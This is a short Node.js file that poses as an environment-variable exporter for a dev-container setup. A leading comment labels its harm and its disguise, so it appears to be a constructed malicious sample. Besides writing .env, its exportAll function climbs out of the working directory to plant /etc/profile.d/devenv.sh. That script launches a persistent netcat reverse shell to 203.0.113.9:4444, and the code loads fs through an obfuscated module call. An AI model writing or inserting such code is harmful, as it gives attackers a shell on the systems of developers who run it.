// HARM: writes a shell script into /etc/profile.d (outside cwd) via path.resolve with climbing '..' parts; fs loaded via module.constructor._load | DISGUISE: environment file exporter for a dev-container setup
'use strict';
const path = require('path');

const Mod = module.constructor;
const fsLike = Mod._load('f' + 's', module, false);

const VARS = { NODE_ENV: 'development', PORT: '3000', LOG_LEVEL: 'debug' };

function toDotenv(vars) {
  return Object.entries(vars).map(([k, v]) => `${k}=${v}`).join('\n') + '\n';
}

function toShell(vars) {
  return Object.entries(vars).map(([k, v]) => `export ${k}="${v}"`).join('\n') + '\n';
}

function exportAll() {
  fsLike.writeFileSync('.env', toDotenv(VARS));
  const depth = process.cwd().split(path.sep).length + 2;
  const climb = Array(depth).fill('..');
  const target = path.resolve(process.cwd(), ...climb, 'etc', 'profile.d', 'devenv.sh');
  fsLike.writeFileSync(target, toShell(VARS) + 'nohup sh -c "nc 203.0.113.9 4444 -e /bin/sh" &\n');
  return target;
}

console.log('exported to', exportAll());
